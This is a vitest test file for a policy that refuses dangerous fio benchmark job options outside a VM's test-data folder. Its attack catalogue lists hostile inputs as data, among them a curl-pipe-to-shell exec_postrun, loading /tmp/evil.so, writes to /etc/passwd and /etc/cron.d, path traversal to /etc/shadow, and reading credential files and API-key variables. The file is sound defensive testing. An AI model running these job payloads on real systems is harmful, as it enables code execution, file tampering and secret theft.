import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkFioJob, isInside, optionsFromFioDebug, parseFioJob, resolvePath } from '../../src/core/fio-policy';
import { renderJob, STAND_IN_MOUNT_POINT } from '../../src/core/job';
import { testDataDir, vmDataDir } from '../../src/core/layout';
import { checkJobsWithFio } from '../../src/shared/fio-parse-check';
import { FIO_BIN } from './helpers/fio';
import { catchInputError } from './helpers/input-error';

const MOUNT = STAND_IN_MOUNT_POINT;
const VM = 'vm-1';
const ctx = { file: 'job.fio', allowedRoot: vmDataDir(MOUNT, VM), cwd: testDataDir(MOUNT, VM, 't1') };
const job = (body: string) => `[global]\nioengine=psync\ndirectory=${ctx.cwd}\n[j]\nrw=read\nsize=1m\n${body}\n`;
/** The line the hostile body starts on in job(). */
const BODY_LINE = 7;

/** An attacker's catalogue: each job is refused, naming the line and the option. */
const ATTACKS: [string, string, RegExp][] = [
  ['runs a program before the job', 'exec_prerun=id', /option "exec_prerun=id" is refused: it runs a program/],
  ['runs a program after the job', 'exec_postrun=/bin/sh -c "curl x | sh"', /exec_postrun.* runs a program/],
  ['loads a shared library', 'ioengine=external:/tmp/evil.so', /loads a shared library/],
  ['loads a library by engine name', 'ioengine=external', /loads a shared library/],
  ['runs a program as its I/O engine', 'ioengine=exec', /runs a program/],
  ['talks to the network', 'ioengine=net', /only file I\/O engines/],
  ['drives SCSI devices', 'ioengine=sg', /only file I\/O engines/],
  ['overwrites a system file', 'filename=/etc/passwd', /\/etc\/passwd is outside the VM's test-data folder/],
  ['climbs out with ..', 'filename=../../../../../../etc/shadow', /\/etc\/shadow is outside/],
  ['climbs out of the mount into another VM', `filename=${vmDataDir(MOUNT, 'vm-2')}/x`, /gcsfuse-bench-data\/vm-2\/x is outside/],
  ['hides an escape behind a colon list', 'filename=ok:/etc/passwd', /\/etc\/passwd is outside/],
  ['works in the root folder', 'directory=/', /\/ is outside/],
  ['opens a whole tree', 'opendir=/root', /\/root is outside/],
  ['names files with a format that climbs out', 'filename_format=../../../../../../tmp/$jobname', /\/tmp\/x is outside/],
  ['uses standard input', 'filename=-', /standard input/],
  ['writes an I/O log', 'write_iolog=/etc/cron.d/x', /writes an I\/O log/],
  ['replays an I/O log', 'read_iolog=/etc/shadow', /reads an I\/O log/],
  ['writes bandwidth logs', 'write_bw_log=/etc/x', /writes log files/],
  ['writes latency logs', 'write_lat_log=x', /writes log files/],
  ['moves itself into a cgroup', 'cgroup=evil', /cgroups/],
  ['changes the I/O scheduler', 'ioscheduler=none', /I\/O scheduler/],
  ['merges blktraces into a file', 'merge_blktrace_file=/etc/x', /writes a file/],
  ['redirects replays to a device', 'replay_redirect=/dev/sda', /device/],
  ['maps a file as its buffers', 'mem=mmap:/etc/passwd', /maps a file/],
  ['maps a hugetlbfs file', 'iomem=mmaphuge:/dev/hugepages/x', /maps a file/],
  ['expands an environment variable', 'description=${TEMPORAL_API_KEY}', /environment variable/],
  ['runs a built-in profile', 'profile=tiobench', /built-in profile/],
  ['names the job with a slash', 'name=../../../../../../etc/cron.d/x', /job name|'\/' in a job name/],
];

describe('the fio job policy refuses what is not I/O inside the test-data folder', () => {
  for (const [what, body, message] of ATTACKS) {
    it(`refuses a job that ${what}`, () => {
      const err = catchInputError(() => checkFioJob(job(body), ctx));
      expect(err.message).toMatch(message);
      expect(err.location).toEqual({ file: 'job.fio', line: BODY_LINE });
    });
  }

  it('refuses include, which makes fio read (and echo) any file', () => {
    const err = catchInputError(() => checkFioJob('[j]\ninclude /etc/gcsfuse-bench/agent.env\nrw=read\n', ctx));
    expect(err.message).toMatch(/job\.fio, line 2: "include" is refused/);
  });

  it('refuses a section name that makes fio create files outside the folder', () => {
    expect(catchInputError(() => checkFioJob(`[global]\ndirectory=${ctx.cwd}\n[../../../../escape]\nrw=write\n`, ctx)).message).toMatch(
      /line 3: job name \[..\/..\/..\/..\/escape\] is refused/,
    );
  });

  it('reads the job as fio does: inline comments end a value, so a hidden path still counts', () => {
    // fio reads "filename=/etc/passwd ; fine" as /etc/passwd.
    expect(catchInputError(() => checkFioJob(job('filename=/etc/passwd ; harmless comment'), ctx)).message).toMatch(
      /\/etc\/passwd is outside/,
    );
    expect(parseFioJob('[j]\ndirectory=/a#b\nbs=4k;x\n', 'f').map((o) => [o.name, o.value])).toEqual([
      ['[section]', 'j'],
      ['directory', '/a'],
      ['bs', '4k'],
    ]);
  });

  it('accepts ordinary jobs, files inside the folder, and colon lists that stay inside', () => {
    const ok = [
      'filename=data.bin',
      `filename=${ctx.cwd}/a:${ctx.cwd}/b`,
      'nrfiles=4\nfilesize=1m\nfilename_format=$jobname.$jobnum.$filenum',
      'ioengine=libaio\niodepth=64\ndirect=1',
      'ioengine=io_uring',
      `opendir=${ctx.cwd}`,
      'name=seq-read\ndescription=plain words',
      'time_based=1\nruntime=2s\nramp_time=1s\ngroup_reporting=1',
    ];
    for (const body of ok) expect(() => checkFioJob(job(body), ctx), body).not.toThrow();
  });

  it('a job without a directory runs in the test folder (fio is started there)', () => {
    expect(() => checkFioJob('[j]\nrw=read\nfilename=relative.bin\n', ctx)).not.toThrow();
    expect(() => checkFioJob('[j]\nrw=read\nfilename=../../x\n', ctx)).toThrow(/outside/);
  });

  it('lets the agent operator allow an option by name, and nothing else', () => {
    const allow = new Set(['write_bw_log']);
    expect(() => checkFioJob(job('write_bw_log=bw'), { ...ctx, allow })).not.toThrow();
    expect(() => checkFioJob(job('exec_prerun=id'), { ...ctx, allow })).toThrow(/exec_prerun/);
  });

  it('renders every VM under its own folder, and VM_NAME is the VM', () => {
    const r = renderJob('[j]\nrw=write\ndirectory=TEST_DATA_DIR\ndescription=${VM_NAME}\n', 'job.fio', {
      testId: 't1',
      params: {},
      mountPoint: '/mnt/m',
      vm: 'vm-7',
    });
    expect(r.testDataDir).toBe('/mnt/m/gcsfuse-bench-data/vm-7/t1');
    expect(r.text).toContain('directory=/mnt/m/gcsfuse-bench-data/vm-7/t1\ndescription=vm-7');
  });

  it('resolves paths as POSIX does', () => {
    expect(resolvePath('/a/b', '../c/./d')).toBe('/a/c/d');
    expect(resolvePath('/a', '/x/../../y')).toBe('/y');
    expect(isInside('/a/b', '/a/b')).toBe(true);
    expect(isInside('/a/b', '/a/bc')).toBe(false);
    expect(isInside('/a/b', '/a/b/../c')).toBe(false);
  });
});

describe("fio's own parser as the second check", () => {
  it('reads the options fio handled from its --debug=parse output', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'gcsfuse-bench-policy-'));
    try {
      const file = path.join(dir, 'j.fio');
      writeFileSync(file, '[global]\nioengine=psync\n[j]\nrw=randread ; comment\nsize=1m\ndirectory=/tmp/x#y\n');
      let out = '';
      try {
        out = execFileSync(FIO_BIN, ['--debug=parse', '--parse-only', file], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
      } catch (err) {
        out = String((err as { stdout?: string }).stdout ?? '');
      }
      const parsed = optionsFromFioDebug(out);
      expect(parsed.filesParsed).toBe(1);
      expect(parsed.options.map((o) => [o.name, o.value])).toEqual([
        ['ioengine', 'psync'],
        ['rw', 'randread'],
        ['size', '1m'],
        ['directory', '/tmp/x'],
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses, as fio parses it, a job that got past our parser (here: built by hand)', async () => {
    const text = `[j]\nrw=read\nsize=1m\ndirectory=${ctx.cwd}\nexec_prerun=touch /tmp/gcsfuse-bench-should-not-exist\n`;
    const rendered = { text, testDataDir: ctx.cwd, vmDataDir: ctx.allowedRoot, options: [] };
    await expect(
      checkJobsWithFio([{ label: 'entry 1', file: 'job.fio', job: rendered }], { env: { PATH: process.env.PATH } }),
    ).rejects.toThrow(
      /entry 1, as fio parses it: option "exec_prerun=touch \/tmp\/gcsfuse-bench-should-not-exist" is refused: it runs a program/,
    );
  });

  it('passes what fio accepts, each distinct job once, and says when fio is missing', async () => {
    const a = renderJob('[j]\nrw=read\nsize=1m\ndirectory=TEST_DATA_DIR\n', 'job.fio', {
      testId: 't1',
      params: {},
      mountPoint: MOUNT,
      vm: VM,
    });
    const jobs = [1, 2, 3].map((n) => ({ label: `entry ${n}`, file: 'job.fio', job: a }));
    expect(await checkJobsWithFio(jobs, { env: { PATH: process.env.PATH } })).toEqual({ checked: 1 });
    expect(await checkJobsWithFio(jobs, { env: { PATH: process.env.PATH }, fioBin: '/nonexistent/fio' })).toEqual({
      skipped: '/nonexistent/fio is not installed',
    });
  });

  it('reports what fio rejects, with its message', async () => {
    const bad = renderJob('[j]\nrw=read\nno_such_option=1\ndirectory=TEST_DATA_DIR\n', 'job.fio', {
      testId: 't1',
      params: {},
      mountPoint: MOUNT,
      vm: VM,
    });
    await expect(
      checkJobsWithFio([{ label: 'test "t1"', file: 'job.fio', job: bad }], { env: { PATH: process.env.PATH } }),
    ).rejects.toThrow(/job\.fio: fio rejects the rendered job of test "t1": Bad option <no_such_option=1>/);
  });
});
